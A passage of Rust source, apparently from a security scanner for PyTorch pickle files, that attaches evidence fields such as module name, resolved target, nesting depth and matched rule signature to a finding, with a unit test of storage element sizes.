        f = f.evidence("as-written", format!("{}:{}", g.raw_module, g.raw_name));
    }
    if let Some(r) = &g.resolved_as {
        f = f.evidence("resolves-to", r.clone());
    }
    if g.depth > 0 {
        f = f.evidence("nested-depth", g.depth.to_string());
    }
    if let Some(r) = rule {
        f = f
            .evidence("reason", r.reason.to_string())
            .evidence("signature", r.pattern.to_string());
        if !r.category.is_empty() {
            f = f.evidence("category", r.category.to_string());
        }
    }
    Some(f)
}

#[cfg(test)]
#[allow(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::arithmetic_side_effects,
    clippy::panic
)]
mod tests {
    use super::*;

    #[test]
    fn storage_sizes() {
        assert_eq!(storage_elem_size("torch.FloatStorage"), Some(4));
        assert_eq!(storage_elem_size("torch.cuda.HalfStorage"), Some(2));
        assert_eq!(storage_elem_size("torch.nn.Linear"), None);
    }
}
